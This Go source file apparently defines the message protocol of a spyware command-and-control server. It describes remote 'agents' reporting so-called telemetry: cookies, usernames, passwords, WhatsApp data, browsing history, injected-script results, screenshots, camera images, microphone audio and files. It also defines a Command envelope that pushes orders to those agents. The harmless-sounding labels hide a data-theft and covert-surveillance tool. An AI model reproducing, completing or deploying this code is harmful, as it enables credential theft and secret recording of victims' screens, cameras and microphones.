package protocol

import (
	"encoding/json"
	"errors"
	"fmt"
	"sort"
)

var (
	ErrUnknownCategory = errors.New("protocol: unknown telemetry category")
	ErrMissingType     = errors.New("protocol: message type required")
	ErrMissingClientID = errors.New("protocol: clientId required")
	ErrMalformed       = errors.New("protocol: malformed message")
)

// MessageKind is the closed set of inbound message shapes.
type MessageKind int

const (
	KindUnknown MessageKind = iota
	KindRegister
	KindPing
	KindTelemetry
)

func (k MessageKind) String() string {
	switch k {
	case KindRegister:
		return "register"
	case KindPing:
		return "ping"
	case KindTelemetry:
		return "telemetry"
	default:
		return "unknown"
	}
}

const (
	TypeRegister = "register"
	TypePing     = "ping"
	TypePong     = "pong"
)

// Category is one member of the closed telemetry category set.
type Category string

const (
	CategoryCookies               Category = "cookies"
	CategoryTabs                  Category = "tabs"
	CategoryScriptResult          Category = "scriptResult"
	CategoryUsername              Category = "username"
	CategoryPassword              Category = "password"
	CategoryWhatsapp              Category = "whatsapp"
	CategoryHistory               Category = "history"
	CategoryActiveTabScriptResult Category = "activeTabScriptResult"
	CategoryScreenshot            Category = "screenshot"
	CategoryCamera                Category = "camera"
	CategoryMic                   Category = "mic"
	CategoryFile                  Category = "file"
)

// Policy is the retention rule applied to a category's log sequence.
type Policy int

const (
	// PolicyAppend keeps every event, duplicates allowed.
	PolicyAppend Policy = iota
	// PolicyUpsert keeps at most one event per agent id.
	PolicyUpsert
)

func (p Policy) String() string {
	if p == PolicyUpsert {
		return "upsert"
	}
	return "append"
}

// PayloadKind describes how a category's payload is stored.
type PayloadKind int

const (
	PayloadStructured PayloadKind = iota
	// PayloadBinary payloads arrive as data URIs and are externalized to content files.
	PayloadBinary
)

// GeneralLogFile is the sequence shared by every binary category.
const GeneralLogFile = "general_logs.json"

type categoryRule struct {
	policy    Policy
	payload   PayloadKind
	file      string
	extension string
}

var categories = map[Category]categoryRule{
	CategoryCookies:               {policy: PolicyUpsert, payload: PayloadStructured, file: "cookies.json"},
	CategoryTabs:                  {policy: PolicyUpsert, payload: PayloadStructured, file: "tabs.json"},
	CategoryScriptResult:          {policy: PolicyAppend, payload: PayloadStructured, file: "scriptResult.json"},
	CategoryUsername:              {policy: PolicyAppend, payload: PayloadStructured, file: "usernames.json"},
	CategoryPassword:              {policy: PolicyAppend, payload: PayloadStructured, file: "passwords.json"},
	CategoryWhatsapp:              {policy: PolicyAppend, payload: PayloadStructured, file: "whatsapps.json"},
	CategoryHistory:               {policy: PolicyAppend, payload: PayloadStructured, file: "historys.json"},
	CategoryActiveTabScriptResult: {policy: PolicyAppend, payload: PayloadStructured, file: "activeTabScriptResults.json"},
	CategoryScreenshot:            {policy: PolicyAppend, payload: PayloadBinary, file: GeneralLogFile, extension: "png"},
	CategoryCamera:                {policy: PolicyAppend, payload: PayloadBinary, file: GeneralLogFile, extension: "png"},
	CategoryMic:                   {policy: PolicyAppend, payload: PayloadBinary, file: GeneralLogFile, extension: "wav"},
	CategoryFile:                  {policy: PolicyAppend, payload: PayloadBinary, file: GeneralLogFile, extension: "bin"},
}

// ParseCategory resolves raw into a known category.
func ParseCategory(raw string) (Category, error) {
	c := Category(raw)
	if _, ok := categories[c]; !ok {
		return "", fmt.Errorf("%w: %q", ErrUnknownCategory, raw)
	}
	return c, nil
}

// Categories returns the closed category set in stable order.
func Categories() []Category {
	out := make([]Category, 0, len(categories))
	for c := range categories {
		out = append(out, c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

func (c Category) Valid() bool {
	_, ok := categories[c]
	return ok
}

func (c Category) Policy() Policy {
	return categories[c].policy
}

func (c Category) Payload() PayloadKind {
	return categories[c].payload
}

// LogFile is the file name holding this category's sequence.
func (c Category) LogFile() string {
	return categories[c].file
}

// Extension is the content-file extension for binary categories.
func (c Category) Extension() string {
	return categories[c].extension
}

// Telemetry is one reported observation from an agent.
type Telemetry struct {
	Category  Category        `json:"type"`
	AgentID   string          `json:"clientId"`
	Data      json.RawMessage `json:"data,omitempty"`
	Timestamp json.RawMessage `json:"timestamp,omitempty"`
}

// Command is the server-to-agent push envelope.
type Command struct {
	Command string          `json:"command"`
	AgentID string          `json:"clientId"`
	Payload json.RawMessage `json:"payload"`
}

// Pong answers an agent ping.
type Pong struct {
	Type string `json:"type"`
}

func NewPong() Pong {
	return Pong{Type: TypePong}
}
